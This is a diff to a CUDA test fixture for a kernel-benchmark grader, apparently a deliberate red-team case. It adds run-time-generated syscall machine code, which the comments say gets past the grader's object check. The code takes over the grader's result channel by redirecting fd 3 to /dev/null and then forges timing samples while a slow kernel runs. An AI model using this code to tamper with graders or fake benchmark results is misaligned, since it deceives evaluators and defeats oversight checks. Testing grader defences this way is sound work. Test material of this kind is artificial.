@@ -1,23 +1,76 @@
 // broken: matmul-naive
-// bug: takes the channel over (a copy of fd 3 made with fcntl, fd 3 sent to /dev/null) after its first launch, answers the grader itself, "done" for a run and a forged "sample" for a timed call (told apart by the persisting-L2 limit, which only the timer resets), and reports one and a half times the shortest time the GPU's peak FP32 rate allows, above the grader's physical floor, while a kernel four times slower than the reference computes the right outputs
+// bug: takes the channel over (a copy of fd 3 made with fcntl, fd 3 sent to /dev/null, by system calls from machine code written at run time) after its first launch, answers the grader itself, "done" for a run and a forged "sample" for a timed call (told apart by the persisting-L2 limit, which only the timer resets), and reports one and a half times the shortest time the GPU's peak FP32 rate allows, above the grader's physical floor, while a kernel four times slower than the reference computes the right outputs
 // class: forging the timing on the result channel (catalogue 9, 15)
 // defence: timing-bounds: a reported time is held to what the grader saw pass between asking for the sample and getting it (besides the physical floors from the trusted helper); grader-held-results: the outputs of every timed call are spot-checked in the arena
 // backends: cuda
+// command: grade
 // expect-pass: small sizes
 // expect-zero: performance
 // expect-text: but the grader saw at least
+// expect-no-text: its machine code makes a system call
 
-// The channel carries only claims, so the forgery is one of them: a "sample" with a time. fcntl, close,
-// open and the kit's own kit::write_record are no forbidden calls, so the object check lets this file
-// through; the outputs are right, so the spot checks pass; the time is above the floors computed from
+// The channel carries only claims, so the forgery is one of them: a "sample" with a time. The object
+// check sees no forbidden call; the "done" counts the calls the grader got; the outputs are right, so the spot checks pass; the time is above the floors computed from
 // the GPU's peak FP32 rate and bandwidth. What gives it away is the wall clock: the grader sees each timed
 // call take as long as the slow kernel does.
+#include <sys/mman.h>
 #include <fcntl.h>
-#include <unistd.h>
+#include <cstring>
 #include <string>
 #include <cuda_runtime.h>
-#include "kit/channel.h"
 #include "matmul_naive.h"
+
+// System calls from machine code written at run time (as in tamper_output_daemon.cu): libc's fcntl,
+// close and write, the kit's own kit::write_record and a syscall instruction in this file are all refused
+// by the object check, so the attack on the channel itself takes this way round.
+static long raw_syscall(long n, long a = 0, long b = 0, long c = 0)
+{
+#if defined(__x86_64__)
+    static const unsigned char code[] = {
+        0x48, 0x89, 0xf8,  // mov rax, rdi   (the call's number)
+        0x48, 0x89, 0xf7,  // mov rdi, rsi   (its arguments, one register down)
+        0x48, 0x89, 0xd6,  // mov rsi, rdx
+        0x48, 0x89, 0xca,  // mov rdx, rcx
+        0x0f, 0x05,        // syscall
+        0xc3};             // ret
+    static void* page = nullptr;
+    if (page == nullptr) {
+        page = mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        if (page == MAP_FAILED) return -12;  // ENOMEM
+        memcpy(page, code, sizeof code);
+    }
+    return reinterpret_cast<long (*)(long, long, long, long)>(page)(n, a, b, c);
+#else
+    return -38;  // ENOSYS: the attack is x86-64 only
+#endif
+}
+enum { SYS_WRITE = 1, SYS_OPEN = 2, SYS_CLOSE = 3, SYS_DUP2 = 33, SYS_FCNTL = 72 };
+
+// One record as the runner frames it (kit/channel.h): a type byte, an 8-byte little-endian length, the
+// bytes. False once the channel is gone.
+static bool send_record(long fd, char type, const std::string& bytes)
+{
+    std::string record(1, type);
+    for (int b = 0; b < 8; ++b) record += (char)((bytes.size() >> (8 * b)) & 0xff);
+    record += bytes;
+    for (size_t done = 0; done < record.size();) {
+        const long n = raw_syscall(SYS_WRITE, fd, (long)(record.data() + done), (long)(record.size() - done));
+        if (n <= 0) return false;
+        done += (size_t)n;
+    }
+    return true;
+}
+
+// Takes the channel over: a descriptor of its own on it, and fd 3 pointed at /dev/null, so that the
+// runner's true records go nowhere and this function's are the only ones the grader gets.
+static long take_the_channel()
+{
+    const long channel = raw_syscall(SYS_FCNTL, 3, F_DUPFD, 100);
+    const long null = raw_syscall(SYS_OPEN, (long)"/dev/null", O_WRONLY);
+    raw_syscall(SYS_DUP2, null, 3);
+    raw_syscall(SYS_CLOSE, null);
+    return channel;
+}
 
 // Four times the work of the naive kernel (each repetition reloads: the fence keeps the compiler from
 // reusing the loads), so that honestly timed it earns no performance points against the reference.
@@ -63,14 +116,15 @@ void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
     slow_product(d_M, d_N, d_P, Width);  // the first call's launch reaches the record of runtime calls
     cudaDeviceSynchronize();
     cudaDeviceSetLimit(cudaLimitPersistingL2CacheSize, 1 << 20);
-    static int channel = -1;
+    // The first call's launch reached the grader before the takeover; the runner's "done" counts the
+    // calls it reported, and so does this one.
+    static long channel = -1;
+    const int calls = first ? 1 : 0;
     if (first) {
         first = false;
-        channel = fcntl(3, F_DUPFD, 100);
-        close(3);
-        open("/dev/null", O_WRONLY);  // the runner's true records go here
+        channel = take_the_channel();  // the runner's true records go to /dev/null
     }
-    std::string record = "{\"type\":\"done\",\"status\":\"ok\"}";
+    std::string record = "{\"type\":\"done\",\"status\":\"ok\",\"calls\":" + std::to_string(calls) + "}";
     if (timed) {
         int khz = 0;
         cudaDeviceGetAttribute(&khz, cudaDevAttrClockRate, 0);
@@ -78,5 +132,5 @@ void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
         record = "{\"type\":\"sample\",\"error\":\"\",\"ms\":" + ms + ",\"ms_synced\":" + ms +
                  ",\"sm_clock_mhz\":" + std::to_string(khz / 1000) + "}";
     }
-    kit::write_record(channel, kit::RecordType::json, record.data(), record.size());
+    send_record(channel, 'J', record);
 }
